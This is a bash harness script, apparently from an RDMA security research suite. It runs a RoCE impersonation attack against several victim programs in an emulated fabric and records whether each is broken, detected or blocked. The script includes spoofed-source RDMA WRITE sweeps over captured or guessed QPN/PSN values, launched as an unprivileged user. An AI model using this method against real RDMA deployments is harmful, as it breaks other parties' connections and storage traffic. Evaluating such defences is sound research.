# SPDX-License-Identifier: MIT
# NeVerMore 4.1 (impersonate): an unprivileged process (user nobody) on the
# client's host 2 opens the client's own device rxe2, so its packets carry the
# peer's address, aims 64 QPs at the server's QPN and sweeps PSNs with
# bogus-rkey RDMA WRITEs. Third-party victims and the naive one tell QPN and
# PSN in clear (TCP exchange or rdma_cm), so the sweep starts at the PSN they
# told (read here off the wire); rdmasec tells them only inside TLS, so the
# attacker gets the QPN (a stronger attacker than the model) but must sweep
# the 2^24 PSNs blindly, for as long as the cell allows.
# rdma_cm victims: ucmatose's server QP sits still at the client's starting
# PSN (its client sends nothing until it replies), which the rdma_cm REP
# tells in clear with the server's QPN, so nobody on host 2 aims one window
# at it. rping's PSN moves on: the sweep starts at a request captured just
# before and repeats a short range ahead with 4 QPs (bursts small enough for
# the fabric's backlog), without the tool's probe, whose 0.2 s ACK wait reads
# a busy emulated victim as dead; rdma res decides.
# rping and ucmatose live 60 s: on a loaded machine, starting them and the two
# captures took from 16 s to 35 s (the default life is 14 s), and the sweep then hit a victim
# whose own timeout had already ended it. A victim that is gone before the
# attack starts is reported as such, not as one that "showed no error".
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

cell_impersonate() {
	local v=$1 line sweep ev opts=()
	# rdmasec's client holds its connection until the sweep ends: give both sides time.
	# nvmf: a 10 s I/O timeout, as qp-error's (the host learns of the broken QP by it).
	case "$v" in rdmasec) VICTIM_SECONDS=24 ;; rping | ucmatose) VICTIM_SECONDS=60 ;; nvmf) VICTIM_SECONDS=60 NVMF_IO_TIMEOUT=10 ;; esac
	[ "$v" = ucmatose ] && cell_cm_capture_start
	victim_start "$v" || { matrix_result impersonate "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
	cell_cm_stop
	case "$v" in
	write_bw) victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN)) ;;
	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$CM_REP_PSN ;;
	rping | nvmf) victim_wire_bth --now ;;
	*) victim_wire_bth ;;
	esac || { matrix_result impersonate "$v" error "" "no RoCE request (or QPN/PSN told in clear) seen"; victim_stop; return; }
	case "$v" in
	rdmasec) sweep=0:16777216 ;;
	ucmatose) sweep=$WIRE_PSN:128 opts=(--qps 1 --no-watch) ;;
	rping | nvmf) sweep=$WIRE_PSN:16384 opts=(--qps 4 --passes 0 --no-watch) ;;
	*) sweep=$WIRE_PSN:4194304 ;;
	esac
	if ! cell_victim_running; then
		matrix_result impersonate "$v" error "" "victim ended before the attack (life ${VICTIM_SECONDS} s): $(tail -n 1 "$VICTIM_CLIENT_LOG")"
		victim_stop
		return
	fi
	# nvmf: the tool's start-up (device, 4 QPs) took over 15 s on a loaded machine.
	fabric on "$VICTIM_SRC_HOST" timeout "$([ "$v" = nvmf ] && echo 40 || echo 15)" setpriv --reuid=65534 --regid=65534 --clear-groups \
		"$ATK" impersonate -d "$VICTIM_SRC_DEV" --dst "$VICTIM_DST_IP" --qpn "$WIRE_QPN" --psn-sweep "$sweep" \
		"${opts[@]}" --max-time 8 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
	if [ "$v" = nvmf ]; then
		cell_nvmf_watch $! 40
		echo "impersonate exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
		cell_nvmf_verdict impersonate "user nobody on host 2 (rxe2), bogus-rkey WRITEs $sweep at QP $WIRE_QPN"
		return
	fi
	cell_watch_qp $! keep
	echo "impersonate exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
	[ "$v" = ucmatose ] && cell_final_qp_check
	victim_attack_done
	victim_wait 10
	ev=$(python3 - "$CELL/attack.json" "$VICTIM_SRC_DEV" <<'PY' 2>>"$CELL/stderr.py"
import json, sys
a = json.load(open(sys.argv[1]))
print("impersonate (nobody, %s): %d PSNs in %.1f s, %.2f%% of 2^24, full sweep %.0f s; victim_broken=%s"
      % (sys.argv[2], a["packets"], a["elapsed_s"], 100.0 * a["packets"] / (1 << 24), a["full_sweep_s"],
         "true" if a["victim_broken"] else "false"))
PY
	) || ev="impersonate gave no result: $(tail -n 1 "$CELL/attack.err")"
	if [ "$v" = rdmasec ]; then
		line=$(cell_rdmasec_closed_line)
		if grep -q 'code="queue pair in error state"' <<<"$line"; then
			matrix_result impersonate "$v" detected \
				"blind sweep hit the random PSN; the QP error was reported (RSEC_E_QP, logged and counted)" "$line"
		elif grep -q 'reply: after the attack' "$VICTIM_CLIENT_LOG" || grep -q 'client quit' <<<"$line"; then
			matrix_result impersonate "$v" blocked \
				"random 24-bit PSN per direction, QPN/PSN only inside TLS: a blind sweep cannot finish in time" "$ev"
		else
			matrix_result impersonate "$v" error "" "$ev; $(tail -n 1 "$VICTIM_SERVER_LOG")"
		fi
		return
	fi
	if line=$(cell_broken_evidence) || { [ "$v" = ucmatose ] && line=$(cell_ucmatose_broken); }; then
		matrix_result impersonate "$v" succeeded "" "$line"
	else
		matrix_result impersonate "$v" error "" "victim showed no error; $ev"
	fi
}
